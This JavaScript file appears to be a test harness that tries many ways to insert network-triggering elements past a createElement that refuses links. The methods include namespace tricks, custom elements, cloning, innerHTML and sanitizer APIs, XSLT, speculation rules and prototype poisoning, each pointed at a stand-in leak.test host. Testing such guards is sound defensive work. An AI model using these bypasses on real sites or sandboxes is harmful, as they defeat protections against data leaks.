// Ways to get a <link> past a createElement that refuses one. Each asks for a name of its own.
const linked = (name, make) => () => {
  const l = make();
  l.rel = 'preconnect';
  l.href = 'http://bp-' + name.toLowerCase() + '-' + T + '.leak.test:' + CFG.port + '/';
  document.head.append(l);
  return l.isConnected ? '' : Promise.reject(new Error('not a link'));
};
const XH = 'http://www.w3.org/1999/xhtml',
  markup = (name) => '<link rel="preconnect" href="http://bp-' + name.toLowerCase() + '-' + T + '.leak.test:' + CFG.port + '/">';
const box = () => {
  const d = document.createElement('div');
  document.body.append(d);
  return d;
};
const BYPASS = {
  plain: linked('plain', () => document.createElement('link')),
  ns: linked('ns', () => document.createElementNS(XH, 'x:link')),
  upper: linked('upper', () => document.createElement('LINK')),
  toString: linked('toString', () => {
    let n = 0;
    return document.createElement({ toString: () => (n++ ? 'link' : 'b') });
  }),
  createDocument: linked('createDocument', () => document.implementation.createDocument(XH, 'link', null).documentElement),
  htmlDocument: linked('htmlDocument', () => document.implementation.createHTMLDocument('').createElement('link')),
  newDocument: linked('newDocument', () => new Document().createElementNS(XH, 'link')),
  customElement: linked('customElement', () => {
    class L extends HTMLLinkElement {}
    customElements.define('x-' + T, L, { extends: 'link' });
    return new L();
  }),
  scopedRegistry: linked('scopedRegistry', () => {
    class L extends HTMLLinkElement {}
    const r = new CustomElementRegistry();
    r.define('y-' + T, L, { extends: 'link' });
    return new L();
  }),
  clone: linked('clone', () => document.querySelector('link').cloneNode()),
  cloneScript: () => {
    const s = document.querySelector('script').cloneNode();
    s.type = 'speculationrules';
    s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [U('cloneScript')] }] });
    document.head.append(s);
  },
  processing: () => {
    document.insertBefore(
      document.createProcessingInstruction('xml-stylesheet', 'type="text/css" href="' + U('processing.css') + '"'),
      document.documentElement,
    );
  },
  setHTML: () => box().setHTML(markup('setHTML'), { sanitizer: { elements: ['link'], attributes: ['rel', 'href'] } }),
  setHTMLUnsafe: () => box().setHTMLUnsafe(markup('setHTMLUnsafe')),
  parseHTML: () =>
    document.body.append(
      Document.parseHTML(markup('parseHTML'), {
        sanitizer: { elements: ['html', 'head', 'body', 'link'], attributes: ['rel', 'href'] },
      }).querySelector('link'),
    ),
  innerHTML: () => {
    const d = box();
    d.innerHTML = markup('innerHTML');
    if (!d.firstChild) throw new Error('no effect');
  },
  outerHTML: () => {
    const d = box();
    d.outerHTML = markup('outerHTML');
    if (d.isConnected) throw new Error('no effect');
  },
  adjacent: () => box().insertAdjacentHTML('beforeend', markup('adjacent')),
  template: () => {
    const t = document.createElement('template');
    t.innerHTML = markup('template');
    document.body.append(t.content);
    if (!t.content) throw new Error('no effect');
  },
  fragment: () => document.body.append(document.createRange().createContextualFragment(markup('fragment'))),
  domParser: () => document.body.append(new DOMParser().parseFromString(markup('domParser'), 'text/html').querySelector('link')),
  execCommand: () => {
    const d = box();
    d.contentEditable = 'true';
    d.focus();
    getSelection().selectAllChildren(d);
    if (!document.execCommand('insertHTML', false, markup('execCommand'))) throw new Error('refused');
  },
  xslt: () => {
    const X = 'http://www.w3.org/1999/XSL/Transform',
      d = new Document(),
      e = (n, a) => {
        const x = d.createElementNS(X, 'xsl:' + n);
        for (const k in a) x.setAttribute(k, a[k]);
        return x;
      };
    const sheet = e('stylesheet', { version: '1.0' }),
      t = e('template', { match: '/' }),
      l = e('element', { name: 'link', namespace: XH });
    d.append(sheet);
    sheet.append(t);
    t.append(l);
    for (const [name, value] of [
      ['rel', 'preconnect'],
      ['href', 'http://bp-xslt-' + T + '.leak.test:' + CFG.port + '/'],
    ]) {
      const a = e('attribute', { name });
      a.append(value);
      l.append(a);
    }
    const p = new XSLTProcessor();
    p.importStylesheet(d);
    document.body.append(p.transformToFragment(new Document().appendChild(document.createElement('b')).ownerDocument, document));
  },
  anchorHover: () => {
    const a = document.createElement('a');
    a.id = 'hover';
    a.href = 'http://bp-anchor-' + T + '.leak.test:' + CFG.port + '/';
    a.textContent = 'x';
    document.body.prepend(a);
  },
  poisoned: linked('poisoned', () => {
    // breaks the realm for a moment
    const keep = [
      Set.prototype.has,
      RegExp.prototype.test,
      RegExp.prototype.exec,
      String.prototype.split,
      String.prototype.toLowerCase,
      Function.prototype.call,
      Function.prototype.apply,
      Function.prototype.bind,
      Reflect.apply,
    ];
    let stolen;
    const thief = function (...a) {
      if (typeof this === 'function' && /createElement/.test(this.name)) stolen = this;
      return a;
    };
    Set.prototype.has = () => false;
    RegExp.prototype.test = RegExp.prototype.exec = () => null;
    String.prototype.split = String.prototype.toLowerCase = () => ['b'];
    Function.prototype.call = Function.prototype.apply = Function.prototype.bind = thief;
    Reflect.apply = thief;
    let made;
    try {
      made = document.createElement('link');
    } catch {
    } finally {
      [
        Set.prototype.has,
        RegExp.prototype.test,
        RegExp.prototype.exec,
        String.prototype.split,
        String.prototype.toLowerCase,
        Function.prototype.call,
        Function.prototype.apply,
        Function.prototype.bind,
        Reflect.apply,
      ] = keep;
    }
    return stolen
      ? stolen.call(document, 'link')
      : made instanceof Node
        ? made
        : (() => {
            throw new Error('refused');
          })();
  }),
};
